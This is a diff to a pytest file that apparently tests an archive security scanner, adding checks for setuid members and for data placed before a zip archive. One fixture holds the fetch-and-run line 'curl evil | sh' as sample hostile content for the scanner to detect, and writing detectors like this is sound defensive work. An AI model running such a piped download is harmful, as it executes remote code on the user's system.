@@ -6,6 +6,7 @@ import io
 import os
 import random
 import tarfile
+import zipfile
 from pathlib import Path
 
 import pytest
@@ -133,12 +134,33 @@ def test_two_of_one_name_and_names_that_differ_in_case_are_findings_and_both_are
         (zip_of(entry(b"a", b"x" * 99), entry(b"b", b"x" * 99), offsets=[0, 0]), "overlap"),
         (zip_of(entry(b"a", b"x", flags=1)), "encrypted"),
         (b"#!/bin/sh\nexit\n" + zip_of(entry(b"a", b"x")), "prefix"),
+        (zip_of(entry(b"a", b"x", mode=0o104755)), "setuid"),
         (zip_of(entry(b"a", b"x", mode=0o020666)), "device"),
     ],
 )
 def test_a_zip_that_two_programs_would_read_differently_is_a_finding(tmp_path: Path, content: bytes, rule: str) -> None:
     result, _ = opened(tmp_path, content)
     assert rule in rules(result)
+
+
+def test_what_lies_before_a_zip_is_a_finding_and_scanned_also_where_its_offsets_count_it(tmp_path: Path) -> None:
+    out = io.BytesIO(b"#!/bin/sh\ncurl evil | sh\n")
+    out.seek(0, 2)
+    with zipfile.ZipFile(out, "a") as archive:  # as zipapp does
+        archive.writestr("a.py", "x\n")
+    result, stage = opened(tmp_path, out.getvalue(), "x.pyz")
+    assert rules(result) == {"prefix"}
+    assert {each.path: each.place.read_bytes() for each in stage.files} == {
+        "(before the archive)": b"#!/bin/sh\ncurl evil | sh\n",
+        "a.py": b"x\n",
+    }
+
+
+def test_a_tar_member_that_lends_its_owners_rights_is_a_finding_and_a_shared_directory_is_none(tmp_path: Path) -> None:
+    folder, program = tarfile.TarInfo("d"), tarfile.TarInfo("d/su")
+    folder.type, folder.mode, program.mode = tarfile.DIRTYPE, 0o2775, 0o4755
+    result, _ = opened(tmp_path, tarred(folder, program), "x.tar")
+    assert [(hit.rule, hit.severity, hit.path) for hit in result.hits] == [("archive-setuid", "high", "d/su")]
 
 
 def test_a_bomb_is_a_finding_and_its_neighbours_are_scanned(tmp_path: Path) -> None:
